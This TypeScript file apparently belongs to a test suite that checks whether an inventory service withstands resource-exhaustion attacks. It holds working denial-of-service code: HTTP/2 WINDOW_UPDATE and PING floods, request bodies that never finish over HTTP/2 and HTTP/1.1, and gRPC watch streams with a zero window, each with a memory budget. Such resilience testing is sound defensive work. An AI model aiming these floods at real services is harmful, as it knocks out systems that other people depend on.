import { connect } from "node:http2";
import type { Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import {
  flag,
  frame,
  frameType,
  type Header,
  headersFrame,
  numberFrame,
  opening,
  pseudo,
  setting,
} from "../../../support/http2-frames.ts";
import type { Attack, Target } from "./attack.ts";
import { bearer, http1, open, openMany, pour, times } from "./wire.ts";

/** Clients at one address that keep many connections busy. */

const seconds = 6;
const streams = 1_000;
const batch = "/v1/inventory:batchUpdate";
/** One byte less than the longest body of a batch. */
const unfinished = Buffer.alloc(262_143, " ");

const untilOf = () => performance.now() + seconds * 1_000;
const repeated = (count: number, bytes: Buffer) => Buffer.concat([...times(count, bytes)]);
const keyOf = ({ keys }: Target): Header => [
  "authorization",
  bearer(keys.rich).authorization ?? "",
];

/** Opens HTTP/2 connections, which are read, at one address. */
async function openSessions(target: Target, count: number, window = 65_535): Promise<Socket[]> {
  const sockets = await openMany(target, count, 1);
  for (const socket of sockets) {
    socket.resume().write(opening({ [setting.initialWindowSize]: window }));
    socket.once("data", () => socket.write(frame(frameType.settings, flag.ack, 0)));
  }
  await delay(300);
  return sockets;
}

/** Sends bytes on each connection again and again, as long as the server reads them. */
function repeatedly(
  name: string,
  sends: string,
  connections: number,
  everyMs: number,
  next: (n: number) => Buffer,
): Attack {
  return {
    name,
    sends: `${connections} connections × ${sends} every ${everyMs} ms`,
    seconds: seconds + 3,
    async run(target) {
      const until = untilOf();
      const sockets = await openSessions(target, connections);
      for (let n = 0; performance.now() < until; n++) {
        const bytes = next(n);
        for (const socket of sockets) {
          if (!socket.destroyed && socket.writableLength < 1e6) socket.write(bytes);
        }
        await delay(everyMs);
      }
      for (const socket of sockets) socket.destroy();
      return [];
    },
  };
}

const windowUpdates = repeated(5_000, numberFrame(frameType.windowUpdate, 0, 1));
const pings = repeated(900, frame(frameType.ping, 0, 0, Buffer.alloc(8)));

function threeRequests(n: number): Buffer {
  const ids = [1, 3, 5].map((id) => 6 * n + id);
  return Buffer.concat(ids.map((id) => headersFrame(id, pseudo("GET", "/v1/inventory"))));
}

const bodies: Attack = {
  name: "unfinished batches over HTTP/2",
  sends: `10 connections × ${streams} bodies of ${unfinished.length} bytes that never end`,
  seconds: seconds + 3,
  async run(target) {
    const until = untilOf();
    const sessions = Array.from({ length: 10 }, () =>
      connect("http://localhost", { createConnection: () => open(target) }),
    );
    for (const session of sessions) {
      session.on("error", () => {});
      for (let n = 0; n < streams; n++) {
        const headers = [...pseudo("POST", batch), keyOf(target)];
        const stream = session.request({
          ...Object.fromEntries(headers),
          "content-type": "application/json",
        });
        stream.on("error", () => {}).write(unfinished);
      }
    }
    await delay(until - performance.now());
    for (const session of sessions) session.destroy();
    return [];
  },
};

/** More of them arrive in 0.3 s than garbage is collected. */
const http1Bodies: Attack = {
  name: "unfinished batches over HTTP/1.1",
  sends: `900 bodies of ${unfinished.length} bytes that never end`,
  seconds: seconds + 3,
  async run(target) {
    const until = untilOf();
    const sockets = await openMany(target, 900, 1);
    const head = http1("POST", batch, {
      ...bearer(target.keys.rich),
      "content-type": "application/json",
      "content-length": String(unfinished.length + 1),
    });
    await Promise.all(sockets.map((socket) => pour(socket, [head, unfinished], until)));
    await delay(Math.max(0, until - performance.now()));
    for (const socket of sockets) socket.destroy();
    return [];
  },
};

const watches: Attack = {
  name: "many watches that are not read",
  sends: `300 connections × ${streams} watches with a window of 0`,
  seconds: seconds + 3,
  async run(target) {
    const until = untilOf();
    const sockets = await openSessions(target, 300, 0);
    const headers: Header[] = [
      ...pseudo("POST", "/inventory.v1.InventoryService/WatchInventory"),
      ["content-type", "application/grpc"],
      ["te", "trailers"],
      keyOf(target),
    ];
    const requests = Array.from({ length: streams }, (_, n) =>
      Buffer.concat([
        headersFrame(1 + 2 * n, headers, flag.endHeaders),
        frame(frameType.data, flag.endStream, 1 + 2 * n, Buffer.alloc(5)),
      ]),
    );
    await Promise.all(sockets.map((socket) => pour(socket, requests, until)));
    await delay(Math.max(0, until - performance.now()));
    for (const socket of sockets) socket.destroy();
    return [];
  },
};

/** All of them. Their requests come at once. */
export const busyConnections: readonly Attack[] = [
  repeatedly("WINDOW_UPDATEs", "5,000 WINDOW_UPDATEs", 200, 1, () => windowUpdates),
  repeatedly("PINGs", "900 PINGs", 500, 200, () => pings),
  repeatedly("few requests on each connection", "3 requests", 900, 5, threeRequests),
  bodies,
  { ...http1Bodies, residentMegabytes: 650 },
  watches,
].map((attack) => ({ residentMegabytes: 500, ...attack, burstMs: 300 }));
